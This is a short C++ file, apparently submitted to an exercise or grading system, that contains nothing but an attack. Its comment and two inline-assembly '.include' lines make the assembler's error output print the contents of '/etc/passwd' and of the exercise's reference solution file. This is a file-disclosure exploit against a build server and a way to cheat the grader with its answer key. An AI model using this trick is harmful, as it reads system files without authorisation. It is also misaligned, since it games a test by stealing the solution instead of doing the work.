// The assembler's errors show the lines of a file; its macros would answer.
#include "dnn/dnn.hpp"
asm(".include \"/etc/passwd\"");
asm(".include \"@SOURCE@/solutions/03_linear_forward.cpp\"");
